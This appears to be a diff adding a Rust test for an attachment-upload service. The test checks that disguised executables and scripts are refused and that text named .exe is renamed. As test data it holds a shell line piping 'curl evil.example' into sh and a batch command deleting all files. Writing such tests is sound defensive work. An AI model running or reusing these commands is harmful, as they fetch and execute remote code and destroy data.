@@ -287,3 +287,95 @@ async fn a_page_of_another_site_cannot_upload_or_delete_with_the_session_cookie(
     let res = delete("https://app.example").await.unwrap();
     assert_eq!(res.status(), reqwest::StatusCode::OK);
 }
+
+#[tokio::test]
+async fn an_executable_declared_as_text_is_refused_and_a_text_named_exe_is_renamed() {
+    let work = Workdir::new();
+    let key = work.tenant_with_key("ws-1", "attachments:read,attachments:write");
+    let session = work.admin(&[
+        "admin", "session", "create", "--tenant", "ws-1", "--user", "42",
+    ]);
+    let server = Server::start(&work);
+    let c = client();
+    let mut program = b"MZ".to_vec();
+    program.resize(64, 0x90);
+    program.extend_from_slice(b"PE\0\0 this program cannot be run in DOS mode");
+    let scripts: [(&str, Vec<u8>); 3] = [
+        ("invoice.exe", program),
+        (
+            "invoice.txt",
+            b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(),
+        ),
+        ("invoice.txt", b"@echo off\r\ndel /q *.*\r\n".to_vec()),
+    ];
+    for (name, bytes) in &scripts {
+        let res = c
+            .post(server.url(&format!("/v1/tickets/{TICKET}/attachments")))
+            .bearer_auth(&key)
+            .multipart(form("file", name, "text/plain", bytes.clone()))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(res.status(), reqwest::StatusCode::BAD_REQUEST, "{name}");
+        let body: serde_json::Value = res.json().await.unwrap();
+        assert_eq!(body["error"], "invalid_file_type", "{name}: {body}");
+        let res = c
+            .post(server.url("/api/v1/messages/7/attachments"))
+            .header("Cookie", format!("clasp_session={session}"))
+            .multipart(form("files", name, "text/plain", bytes.clone()))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(
+            res.status(),
+            reqwest::StatusCode::UNSUPPORTED_MEDIA_TYPE,
+            "{name}"
+        );
+    }
+    assert!(work.blob_files().is_empty(), "no byte of a program is kept");
+
+    // Plain text under a program's name is kept, and served as text.
+    let id = crate::harness::upload_to_ticket(
+        &c,
+        &server,
+        &key,
+        TICKET,
+        form(
+            "file",
+            "invoice.exe",
+            "text/plain",
+            b"Total: 42 EUR\n".to_vec(),
+        ),
+    )
+    .await;
+    let url = format!("/v1/tickets/{TICKET}/attachments/{id}");
+    let got: serde_json::Value = c
+        .get(server.url(&url))
+        .bearer_auth(&key)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(got["filename"], "invoice.txt", "{got}");
+    let signed: serde_json::Value = c
+        .get(server.url(&format!("{url}/download")))
+        .bearer_auth(&key)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let res = c
+        .get(signed["signed_url"].as_str().unwrap())
+        .send()
+        .await
+        .unwrap();
+    let disposition = res.headers()["content-disposition"]
+        .to_str()
+        .unwrap()
+        .to_owned();
+    assert_eq!(disposition, "attachment; filename=\"invoice.txt\"");
+}
